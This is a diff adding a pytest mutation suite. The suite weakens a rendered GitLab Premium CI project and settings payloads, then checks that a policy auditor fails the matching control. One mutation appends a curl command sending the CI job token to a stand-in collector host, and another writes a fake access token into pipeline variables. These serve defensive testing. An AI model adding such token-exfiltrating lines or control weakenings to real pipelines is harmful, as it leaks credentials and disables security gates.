@@ -1,0 +1,193 @@
+"""Each weakening of a rendered GitLab project fails the control it weakens (issue 10).
+
+The base is a GitLab Premium render (Python, Terraform, containers); every mutation keeps the files valid YAML
+and changes what GitLab would do: a scanner allowed to fail, skipped on merge requests or made manual, `|| true`
+after a scanner, a production job that starts by itself or has no environment, artifacts without expire_in, an
+image by a moving tag, the job token sent elsewhere, a secret written into variables:, and the settings
+payloads weakened.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from generator import render
+from generator.audit import audit
+from tests.helpers import GOLDEN, mask, resolve
+
+CI = ".gitlab-ci.yml"
+SETTINGS = ".gitlab/settings"
+ANSWERS: dict[str, Any] = {
+    "platform": "gitlab",
+    "gitlab_tier": "premium",
+    "language": "python",
+    "iac": ["terraform"],
+    "containers": True,
+    "security_team": "@acme/security",
+    "required_approvals": 2,
+}
+Mutate = Callable[[Path], None]
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The GitLab Premium golden tree when it exists, else the same answers rendered now."""
+    golden = GOLDEN / "gitlab-premium-python"
+    dest = tmp_path_factory.mktemp("gitlab") / "gitlab-premium-python"
+    if (golden / CI).is_file():
+        shutil.copytree(golden, dest)
+    else:
+        render.copy(dest, resolve(ANSWERS, dest))
+        mask(dest)
+    return dest
+
+
+def ci(change: Callable[[dict[str, Any]], None]) -> Mutate:
+    def mutate(tree: Path) -> None:
+        path = tree / CI
+        data = yaml.safe_load(path.read_text(encoding="utf-8"))
+        change(data)
+        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
+
+    return mutate
+
+
+def payload(name: str, change: Callable[[dict[str, Any]], None]) -> Mutate:
+    def mutate(tree: Path) -> None:
+        path = tree / SETTINGS / name
+        data = json.loads(path.read_text(encoding="utf-8"))
+        change(data["body"])
+        path.write_text(json.dumps(data, indent=2), encoding="utf-8")
+
+    return mutate
+
+
+def _append_to_script(job: str, suffix: str, match: str) -> Callable[[dict[str, Any]], None]:
+    def change(d: dict[str, Any]) -> None:
+        script = d[job]["script"]
+        index = next(i for i, line in enumerate(script) if match in line)
+        script[index] = script[index].rstrip() + suffix
+
+    return change
+
+
+def _set(job: str, key: str, value: Any) -> Callable[[dict[str, Any]], None]:
+    return lambda d: d[job].__setitem__(key, value)
+
+
+def _pop(job: str, *keys: str) -> Callable[[dict[str, Any]], None]:
+    def change(d: dict[str, Any]) -> None:
+        node = d[job]
+        for key in keys[:-1]:
+            node = node[key]
+        node.pop(keys[-1])
+
+    return change
+
+
+def _not_manual(d: dict[str, Any]) -> None:
+    for rule in d["deploy-production"]["rules"]:
+        rule.pop("when", None)
+
+
+def _never_on_mr(job: str) -> Callable[[dict[str, Any]], None]:
+    def change(d: dict[str, Any]) -> None:
+        d[job]["rules"].insert(0, {"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "never"})
+
+    return change
+
+
+def _manual_on_mr(job: str) -> Callable[[dict[str, Any]], None]:
+    def change(d: dict[str, Any]) -> None:
+        d[job]["rules"][0]["when"] = "manual"
+
+    return change
+
+
+def _token_to(job: str, url: str) -> Callable[[dict[str, Any]], None]:
+    return lambda d: d[job]["script"].append(f'curl --fail -H "JOB-TOKEN: ${{CI_JOB_TOKEN}}" {url}')
+
+
+def _secret_variable(d: dict[str, Any]) -> None:
+    d.setdefault("variables", {})["DEPLOY_TOKEN"] = "glpat-" + "x1Y2z3" * 4
+
+
+def _drop_mr_workflow(d: dict[str, Any]) -> None:
+    d["workflow"]["rules"] = [r for r in d["workflow"]["rules"] if "merge_request_event" not in str(r.get("if"))]
+
+
+def _tools_default_branch_only(d: dict[str, Any]) -> None:
+    d["tools"]["rules"] = [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
+
+
+MUTATIONS: dict[str, tuple[Mutate, str]] = {
+    # The eight weakenings issue 10 names.
+    "scanner-allow-failure": (ci(_set("sast", "allow_failure", True)), "PP-SCAN-01"),
+    "rules-never-on-merge-requests": (ci(_never_on_mr("secrets")), "PP-SCAN-04"),
+    "or-true-after-scanner": (ci(_append_to_script("sast", " || true", "semgrep scan")), "PP-SCAN-01"),
+    "or-true-after-licence-gate": (ci(_append_to_script("sca", " || true", "osv-gate")), "PP-SCAN-12"),
+    "production-not-manual": (ci(_not_manual), "PP-DEPLOY-01"),
+    "production-without-environment": (ci(_pop("deploy-production", "environment")), "PP-DEPLOY-01"),
+    "expire-in-missing": (ci(_pop("sast", "artifacts", "expire_in")), "PP-EVID-03"),
+    "image-by-tag": (ci(_set("sast", "image", "semgrep/semgrep:latest")), "PP-HARD-09"),
+    "job-token-elsewhere": (ci(_token_to("sast", "https://collector.example.net/ci")), "PP-HARD-02"),
+    "secret-in-variables": (ci(_secret_variable), "PP-HARD-05"),
+    # GitLab semantics the words do not show.
+    "allow-failure-exit-code-1": (ci(_set("secrets", "allow_failure", {"exit_codes": [1]})), "PP-SCAN-04"),
+    "scanner-manual-on-merge-requests": (ci(_manual_on_mr("iac")), "PP-SCAN-07"),
+    "workflow-without-merge-requests": (ci(_drop_mr_workflow), "PP-SCAN-10"),
+    "needs-a-job-the-mr-pipeline-lacks": (ci(_tools_default_branch_only), "PP-SCAN-02"),
+    "rollback-job-removed": (ci(lambda d: d.pop("rollback-production")), "PP-DEPLOY-04"),
+    "record-on-failure-removed": (ci(lambda d: d.pop("rollback-production")), "PP-EVID-01"),
+    # The settings payloads.
+    "direct-push-allowed": (
+        payload("protected-branch.json", lambda b: b.__setitem__("push_access_level", 30)),
+        "PP-BRANCH-01",
+    ),
+    "force-push-allowed": (
+        payload("protected-branch.json", lambda b: b.__setitem__("allow_force_push", True)),
+        "PP-BRANCH-05",
+    ),
+    "pipeline-need-not-succeed": (
+        payload("project.json", lambda b: b.__setitem__("only_allow_merge_if_pipeline_succeeds", False)),
+        "PP-BRANCH-04",
+    ),
+    "approvals-survive-pushes": (
+        payload("approval-settings.json", lambda b: b.__setitem__("reset_approvals_on_push", False)),
+        "PP-BRANCH-03",
+    ),
+    "codeowners-removed": (lambda tree: (tree / ".gitlab" / "CODEOWNERS").unlink(), "PP-BRANCH-06"),
+}
+
+
+MUTATIONS["dast-gate-removed"] = (
+    ci(lambda d: d["dast"].__setitem__("script", [x for x in d["dast"]["script"] if "zap-gate" not in x])),
+    "PP-SCAN-09",
+)
+
+
+def statuses(tree: Path) -> dict[str, str]:
+    return {r.control.id: r.status for r in audit(tree).results}
+
+
+def test_the_base_passes_every_control_a_mutation_weakens(base: Path) -> None:
+    found = statuses(base)
+    targets = sorted({control for _mutate, control in MUTATIONS.values()})
+    assert {c: found[c] for c in targets} == dict.fromkeys(targets, "pass")
+
+
+@pytest.mark.parametrize("name", sorted(MUTATIONS))
+def test_each_gitlab_weakening_fails_the_right_control(name: str, base: Path, tmp_path: Path) -> None:
+    mutate, control = MUTATIONS[name]
+    tree = tmp_path / "tree"
+    shutil.copytree(base, tree)
+    mutate(tree)
+    result = next(r for r in audit(tree).results if r.control.id == control)
+    assert result.status == "fail", f"{name}: {control} is {result.status}: {result.reason}"
